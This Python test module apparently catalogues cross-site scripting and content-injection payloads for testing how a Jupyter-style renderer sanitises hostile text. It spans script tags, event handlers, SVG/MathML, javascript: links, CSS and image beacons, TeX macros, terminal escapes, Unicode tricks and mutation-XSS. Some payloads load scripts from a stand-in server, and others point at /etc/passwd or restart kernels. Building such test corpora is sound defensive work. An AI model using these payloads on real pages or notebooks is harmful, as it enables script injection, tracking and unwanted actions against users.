"""What hostile text tries, by class: each payload runs or loads something where it is let.

`{run}` stands for a script that sets `window.__pwned`, `{server}` for an address that notes who
asks; `filled` puts both in, with the payload's number. A payload that hides its script behind an
encoding sets `window.__pwned` to 1.
"""

import base64
from dataclasses import dataclass
from urllib.parse import quote

RUN = "window.__pwned=1"


@dataclass(frozen=True)
class Payload:
    """One payload as a page gets it, with its number and its class."""

    number: int
    kind: str
    text: str


def filled(server: str) -> list[Payload]:
    """Every payload; `server` is the address that a payload asks, below its number."""
    kinds = [(kind, text) for kind, texts in PAYLOADS.items() for text in texts]
    return [
        Payload(
            number,
            kind,
            text.replace("{run}", f"window.__pwned={number}").replace(
                "{server}", f"{server}/{number}"
            ),
        )
        for number, (kind, text) in enumerate(kinds, 1)
    ]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _entities(text: str, form: str = "&#{};") -> str:
    return "".join(form.format(ord(character)) for character in text)


_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>parent.{RUN}</script></svg>'
_PAGE = f"<script>(parent||top).{RUN}</script>"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{run}</script>",
        "<script/x>{run}</script>",
        '<script src="{server}/script.js"></script>',
        f'<script src="data:text/javascript,{RUN}"></script>',
        '<script type="module">import "{server}/module.js"</script>',
        "</script><script>{run}</script>",
        "<script>{run}",
        "<script>\n//<![CDATA[\n{run}\n//]]>\n</script>",
        "<noscript><p title='</noscript><script>{run}</script>'></noscript>",
    ),
    "handler": (
        "<img src=x onerror={run}>",
        "<img/src=x/onerror={run}>",
        "<img src=x onerror=eval(atob('" + _b64(RUN) + "'))>",
        "<image src=x onerror={run}>",
        "<video src=x onerror={run}></video>",
        "<details open ontoggle={run}><summary>x</summary>y</details>",
        "<body onload={run}>",
        "<input autofocus onfocus={run}>",
        "<marquee onstart={run}>x</marquee>",
        "<p onmouseover={run} onpointerenter={run}>x</p>",
        "<a href=# onclick={run}>x</a>",
        "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart={run}>x</p>",
        "<p onbeforetoggle={run} popover id=pop>x</p><button popovertarget=pop>y</button>",
        "<input type=hidden oncontentvisibilityautostatechange={run} "
        "style=content-visibility:auto>",
    ),
    "svg": (
        "<svg/onload={run}>",
        "<svg><script>{run}</script></svg>",
        '<svg><script href="{server}/svg.js"/></svg>',
        "<svg><animate onbegin={run} attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:{run}"><text x=9 y=9>x</text></a></svg>',
        '<svg><image href="{server}/image.png"></image></svg>',
        '<svg><use href="{server}/use.svg#x"></use></svg>',
        "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
        "<svg><style>@import '{server}/svg.css';</style></svg>",
        f'<img src="data:image/svg+xml;base64,{_b64(_SVG)}">',
        f'<object data="data:image/svg+xml;base64,{_b64(_SVG)}"></object>',
        f"![x](data:image/svg+xml;base64,{_b64(_SVG)})",
    ),
    "mathml": (
        '<math href="javascript:{run}">x</math>',
        '<math><maction actiontype="statusline#x" xlink:href="javascript:{run}">x</maction>',
        "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml>",
        "<math><mstyle style='background:url({server}/math)'><mi>x</mi></mstyle></math>",
        "<math><mglyph src='{server}/glyph.png'/></math>",
    ),
    "link": (
        "[x](javascript:{run})",
        "[x](JaVaScRiPt:{run})",
        "[x](\x01javascript:{run})",
        "[x](java\nscript:{run})",
        "[x](java&Tab;script:{run})",
        "[x](javascript&colon;{run})",
        "[x](&#106;avascript:{run})",
        "[x](javascript\\:{run})",
        "[x](javascript://example.org/%0a{run})",
        "[x](vbscript:{run})",
        f"[x](data:text/html,{quote(_PAGE)})",
        f"[x](data:text/html;base64,{_b64(_PAGE)})",
        f"[x](data:image/svg+xml;base64,{_b64(_SVG)})",
        f"[x](data:image/png,{quote(_PAGE)})",
        "[x](file:///etc/passwd)",
        '[x](https://example.org "\\" onmouseover={run} x=\\"")',
        "[x][js]\n\n[js]: javascript:{run}",
        "<javascript:{run}>",
        "[![x](javascript:{run})](javascript:{run})",
        '<a href="javascript:{run}">x</a>',
        '<a href="java\tscript:{run}">x</a>',
        '<a href="#" ping="{server}/ping">x</a>',
    ),
    "image": (
        "![x]({server}/image.png)",
        "![x][ref]\n\n[ref]: {server}/reference.png",
        "![x](/files/pwned-root.png)",
        "![![x]({server}/inner.png)]({server}/outer.png)",
        '![x" onerror="{run}]({server}/alt.png)',
        '![x]({server}/quote.png"onerror="{run})',
        '<img src="{server}/html.png">',
        '<img srcset="{server}/srcset.png 1x">',
        '<input type=image src="{server}/input.png">',
        '<video poster="{server}/poster.png" src="{server}/film.mp4" autoplay></video>',
        '<video><track default src="{server}/track.vtt"></video>',
        '<table background="{server}/table.png"><tr><td>x</td></tr></table>',
    ),
    "css": (
        "<style>@import '{server}/import.css';</style>",
        "<style>body{background:url({server}/body.png)!important}</style>",
        "<style>@font-face{font-family:x;src:url({server}/font.woff)}p{font-family:x}</style>",
        "<style></style><script>{run}</script></style>",
        '<p style="background:url({server}/p.png)">x</p>',
        "<p style=\"background-image:image-set('{server}/set.png' 1x)\">x</p>",
        '<p style="width:expression({run})">x</p>',
        '<p style="position:fixed;inset:0;z-index:99999;background:red">x</p>',
        '<link rel=stylesheet href="{server}/link.css">',
        "<link rel=stylesheet href='data:text/css,body{display:none}'>",
    ),
    "embed": (
        "<iframe src=javascript:parent.{run}></iframe>",
        '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        '<iframe src="{server}/frame.html"></iframe>',
        "<iframe onload={run}></iframe>",
        f'<iframe src="data:text/html,{quote(_PAGE)}"></iframe>',
        "<frameset onload={run}><frame src={server}/frame></frameset>",
        '<object data="{server}/object.html" type="text/html"></object>',
        '<embed src="javascript:{run}">',
        "<template shadowrootmode=open><script>{run}</script></template>",
    ),
    "head": (
        '<meta http-equiv="refresh" content="0;url={server}/refresh">',
        '<meta http-equiv=refresh content="0;javascript:{run}">',
        '<base href="{server}/">',
        '<base target="_top" href="javascript:{run}//">',
        '<link rel="preload" as="image" href="{server}/preload.png">',
        "<title>pwned</title><script>{run}</script>",
    ),
    "form": (
        '<form action="javascript:{run}"><input type=submit autofocus></form>',
        '<form action="{server}/form" method=post><button>x</button></form>',
        '<button formaction="javascript:{run}">x</button>',
        "<form><input name=attributes><input name=innerHTML onfocus={run} autofocus></form>",
        '<input type="image" formaction="{server}/image" src=x onerror={run}>',
    ),
    "tex": (
        r"$\href{javascript:{run}}{x}$",
        r"\(\href{javascript:{run}}{x}\)",
        r"\[\href{javascript:{run}}{x}\]",
        r"$\href{data:text/html,<script>{run}</script>}{x}$",
        r"$\url{javascript:{run}}$",
        r"$\require{html}\href{javascript:{run}}{x}$",
        r"$\require{{server}/package}$",
        r"$\unicode[url({server}/font)]{x41}$",
        r"$\unicode[x;background:url({server}/unicode)]{x41}$",
        r"$\cssId{jp-main-content-panel}{x}$",
        r"$\style{background:url({server}/style)}{x}$",
        r"$\data{commandlinker-command=notebook:restart-kernel}{x}$",
        r"$\includegraphics{{server}/graphic.png}$",
        r"$\bbox[background:url({server}/bbox)]{x}$",
        r"$\bbox[border:1px solid;cursor:url({server}/cursor),auto]{x}$",
        r'$\mmlToken{mi}[href="javascript:{run}"]{x}$',
        r'$\mmlToken{mi}[href="{server}/token"]{x}$',
        r'$\mmlToken{mi}[style="background:url({server}/mml)"]{x}$',
        r'$\mmlToken{mi}[style="cursor:url({server}/mml),auto"]{x}$',
        r'$\mmlToken{mglyph}[src="{server}/glyph.png"]{x}$',
        r'$\mmlToken{mi}[fontfamily="x;background:url({server}/family)"]{x}$',
        r'$\mmlToken{mi}[href="file:///etc/passwd"]{x}$',
        '$\\mmlToken{mi}[href="java\tscript:{run}"]{x}$',
        "$\\href{java\tscript:{run}}{x}$",
        r"$\colorbox{url({server}/colorbox)}{x}$",
        r"$\enclose{box}[mathbackground=\"url({server}/enclose)\"]{x}$",
        r"$\def\x{\href{javascript:{run}}{y}}\x$",
        r"$\renewcommand{\frac}[2]{\href{javascript:{run}}{#1}}\frac12$",
        r"$\text{<img src=x onerror={run}>}$",
        r"$<img src=x onerror={run}>$",
        r"$$<script>{run}</script>$$",
        r"\begin{equation}\url{javascript:{run}}\label{<img src=x onerror={run}>}\end{equation}",
        r"\begin{align}\mmlToken{mi}[href='javascript:{run}']{x}\end{align}",
        r"$\texttip{x}{<img src=x onerror={run}>}$",
    ),
    "jupyter": (
        '<button data-commandlinker-command="notebook:restart-kernel">x</button>',
        '<p data-commandlinker-command="filebrowser:open-url" '
        'data-commandlinker-args=\'{"url":"{server}/open"}\'>x</p>',
        '<p data-jupyter-id="jp-main-dock-panel">x</p>',
        '<script type="application/vnd.jupyter.widget-view+json">'
        '{"model_id": "x", "version_major": 2}</script>',
        '<script type="application/vnd.jupyter.widget-state+json">'
        '{"state": {"x": {"model_name": "HTMLModel", "model_module": "{server}/widget"}}}</script>',
        '<div class="jp-OutputArea-output" data-mime-type="application/javascript">{run}</div>',
        '<div class="jupyter-widgets" data-model-id="x"><img src=x onerror={run}></div>',
        '<script>require(["{server}/amd"], () => { {run} })</script>',
        "[x](pwned.ipynb#{run})",
        "[x](/api/kernels/pwned/restart)",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m <img src=x onerror={run}>",
        "\x1b[38;5;196m<script>{run}</script>\x1b[0m",
        '\x1b[38;2;1;2;3"onmouseover="{run}m x',
        "\x1b]8;;javascript:{run}\x1b\\x\x1b]8;;\x1b\\",
        "\x1b]8;;{server}/osc8\x07x\x1b]8;;\x07",
        '\x1b]8;;https://x"onclick="{run}\x07x\x1b]8;;\x07',
        "\x1b]52;c;" + _b64(RUN) + "\x07 clipboard",
        "\x1b]1337;File=inline=1:" + _b64("pwned") + "\x07",
        "\x1b[2J\x1b[H cleared",
        "\x9b31m\x9d8;;javascript:{run}\x9cx",
        "over\rwritten <img src=x onerror={run}>",
        "back\x08\x08\x08space\x7f\x00\x07\x0b\x0c",
        "<scr\x00ipt>{run}</scr\x00ipt>",
        "<\x1b[0mscript>{run}</script>",
    ),
    "unicode": (
        "\u202e>tpircs/<{run}>tpircs<\u202c",
        "[x](https://example.org/\u202egnp.exe)",
        "[https://example.org](java\u200bscript:{run})",
        "[x](java\u00adscript:{run})",
        "[x](\ufeffjavascript:{run})",
        "\u2066<script>{run}</script>\u2069",
        "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
        "\u061c\u200e\u200f\u2067marks\u2069<svg onload={run}>",
        "\U000e003cscript\U000e003e{run}",
        "\ufffd\ufffe\uffff<img src=x onerror={run}>",
        "e" + "\u0301" * 200 + "<img src=x onerror={run}>",
    ),
    # Halves of UTF-16 pairs: what `os.fsdecode` makes of bytes that are no UTF-8, and then others,
    # which no encoding has and Jupyter's messages can't hold.
    "broken bytes": (
        "<img src=x onerror={run} alt=\udcff>",
        "\udcc3\udca9<script>{run}</script>\udcf0\udc9f",
        "<scr\udcffipt>{run}</scr\udcffipt>",
    ),
    "surrogate": (
        "\ud800<script>{run}</script>",
        "<img src=x onerror={run}>\udfff",
        "\udc28 <svg onload={run}> \ud83d",
    ),
    "fence": (
        "```html\n<script>{run}</script>\n```",
        '```html"><img src=x onerror={run}>\n<script>{run}</script>\n```',
        '```x" onmouseover="{run}" y="\ntext\n```',
        "```mermaid\ngraph LR\n a[<img src=x onerror={run}>] --> b\n"
        ' click a "javascript:{run}"\n```',
        "```math\n\\href{javascript:{run}}{x}\n```",
        "```json\n</code></pre><script>{run}</script>\n```",
        "```python\n# </span><img src=x onerror={run}>\n'<script>{run}</script>'\n```",
        "~~~<script>{run}</script>\n~~~\n<script>{run}</script>",
        "```html\n<img src={server}/fence.png>",
        "    <script>{run}</script>",
        "`<script>{run}</script>`",
        '```\u202e"><svg onload={run}>\nx\n```',
    ),
    "unclosed": (
        "<!-- --><script>{run}</script>",
        "<!--><script>{run}</script>-->",
        "<!-- <img title='--><script>{run}</script>'>",
        "<![CDATA[<script>{run}</script>]]>",
        "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;",
        "</div></div></div></details><script>{run}</script>",
        "</td></tr></table><img src=x onerror={run}>",
        "<img src=x onerror={run}",
        "<div\n\n<img src=x onerror={run}>",
        "<a href='https://example.org\n\n'><img src=x onerror={run}>",
        "</title></textarea></style></noscript><script>{run}</script>",
        "<plaintext><img src=x onerror={run}>",
    ),
    "markdown": (
        "> <script>{run}</script>\n>> ![x]({server}/quoted.png)",
        "- <img src=x onerror={run}>\n  1. ![x]({server}/listed.png)",
        "| a | b |\n|---|---|\n| <script>{run}</script> | ![x]({server}/cell.png) |",
        "# <svg onload={run}>\n\n<script>{run}</script>\n===",
        "**<img src=x onerror={run}>** _<script>{run}</script>_ ~~<svg onload={run}>~~",
        '[<img src=x onerror={run}>](https://example.org "<script>{run}</script>")',
        '<https://example.org/"onmouseover="{run}>',
        "{server}/bare-address",
        '<pwned@example.org?"onclick="{run}>',
        "\\<script>{run}\\</script>",
        "<div markdown=1>![x]({server}/inside.png)</div>",
        "[x]: {server}/only-a-definition\n<script>{run}</script>",
        "{{constructor.constructor('{run}')()}} ${{run}} <%= {run} %> #{{run}}",
        "{::nomarkdown}<script>{run}</script>{:/}",
        '{"answer": "<script>{run}</script>", "more": "![x]({server}/json.png)"}',
        '{"answer": "~~~\\n<img src=x onerror={run}>"}\n~~~\n<script>{run}</script>',
    ),
    "encoded": (
        "&lt;script&gt;{run}&lt;/script&gt;",
        "&#x3c;img src=x onerror={run}&#x3e;",
        "&#x3C&#x73&#x63&#x72&#x69&#x70&#x74&#x3E{run}",
        _entities(f"<script>{RUN}</script>"),
        _entities(f"<img src=x onerror={RUN}>", "&#x{:x};"),
        _entities(f"<svg onload={RUN}>", "&#{:07d}"),
        f"[x]({_entities('javascript:')}{RUN})",
        f"<img src=x onerror={_entities(RUN)}>",
        "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        "&nvlt;script>{run}</script>",
    ),
    "mutation": (
        '<svg></p><style><a id="</style><img src=x onerror={run}>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
        'onerror={run}&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
        "<svg><desc><table><caption><svg><desc></table><style></desc></svg></style></svg>"
        "<img src=x onerror={run}>",
        '<a id="<style>"></a><xmp></xmp><img src=x onerror={run}>',
        '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={run}//"></svg>',
        '<img alt="`<script>{run}</script>`" src=``onerror={run}>',
        "<table><td><form><script>{run}</script></table>",
        '<title><a href="</title><svg/onload={run}>">',
        "<img name=getElementById><form name=body id=jupyter-config-data><input name=baseUrl>",
    ),
    "breakout": (
        '"><script>{run}</script>',
        '" onmouseover="{run}',
        "' autofocus onfocus='{run}",
        '" style="background:url({server}/attribute.png)',
        '"/><img src="{server}/alt.png"><x y="',
        '";{run};//',
        "%22%3E%3Cscript%3E{run}%3C/script%3E",
        "../../../<img src=x onerror={run}>",
        "model\n<script>{run}</script>",
        "a,b;c|d&e<f>g\"h'i`j{run}",
    ),
}
